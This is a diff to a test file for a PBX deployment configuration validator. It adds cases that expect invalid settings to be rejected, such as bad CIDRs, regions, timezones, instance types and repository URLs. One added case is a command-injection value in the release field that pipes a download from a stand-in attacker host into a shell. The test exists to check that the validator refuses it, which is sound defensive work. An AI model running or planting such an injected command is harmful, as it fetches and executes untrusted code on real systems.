@@ -55,6 +55,18 @@ describe("warden-pbx config", () => {
         [{ wardenDbEngineVersion: "13" }, "readiness-kit:wardenDbEngineVersion: PostgreSQL 13 is not a major version of 14 or later"],
         [{ wardenAlertEmail: "" }, "readiness-kit:wardenAlertEmail: required: set an e-mail address for alerts"],
         [{ wardenDomain: "not a domain" }, "readiness-kit:wardenDomain: 'not a domain' is not a DNS domain such as example.com"],
+        [{ wardenDomain: "" }, "readiness-kit:wardenDomain: required: set a DNS domain such as example.com"],
+        [{ wardenSipSourceCidrs: ["198.51.100.7/24"] }, "readiness-kit:wardenSipSourceCidrs: '198.51.100.7/24' is not a CIDR block (e.g. 203.0.113.0/24)"],
+        [{ wardenSipSourceCidrs: ["1:2:3/64"] }, "readiness-kit:wardenSipSourceCidrs: '1:2:3/64' is not a CIDR block (e.g. 203.0.113.0/24)"],
+        [{ wardenInstanceType: "c7g.2xlarge" }, "readiness-kit:wardenInstanceType: c7g.2xlarge is a Graviton (arm64) type; the kit's hosts and nodes boot x86_64 images"],
+        [{ wardenBackupRegion: "us-east-1" }, "readiness-kit:wardenBackupRegion: us-east-1 is the stack's own region (aws:region); off-site copies must live in another region"],
+        [{ wardenBackupRegion: "mars-1" }, "readiness-kit:wardenBackupRegion: 'mars-1' is not an AWS region"],
+        [{ wardenVpcCidr: "10.999.0.0/16" }, "readiness-kit:wardenVpcCidr: '10.999.0.0/16' must be a private 10.x.0.0/16 block"],
+        [{ wardenVpcCidr: "192.168.0.0/16" }, "readiness-kit:wardenVpcCidr: '192.168.0.0/16' must be a private 10.x.0.0/16 block"],
+        [{ wardenTimezone: "Mars/Olympus" }, "readiness-kit:wardenTimezone: 'Mars/Olympus' is not an IANA timezone such as UTC or America/Chicago"],
+        [{ wardenPbxRelease: "v1.2.0; curl evil.example | sh" }, "readiness-kit:wardenPbxRelease: 'v1.2.0; curl evil.example | sh' is not a Git tag or branch name"],
+        [{ wardenPbxRepository: "git@github.com:x/y.git" }, "readiness-kit:wardenPbxRepository: 'git@github.com:x/y.git' is not an https:// Git repository URL"],
+        [{ wardenDbInstanceClass: "m7g.large" }, "readiness-kit:wardenDbInstanceClass: unknown RDS instance class 'm7g.large' (e.g. db.m7g.large)"],
     ])("refuses %j", (override, problem) => {
         expect(read({ ...valid, ...override }).problems).toEqual([problem]);
     });
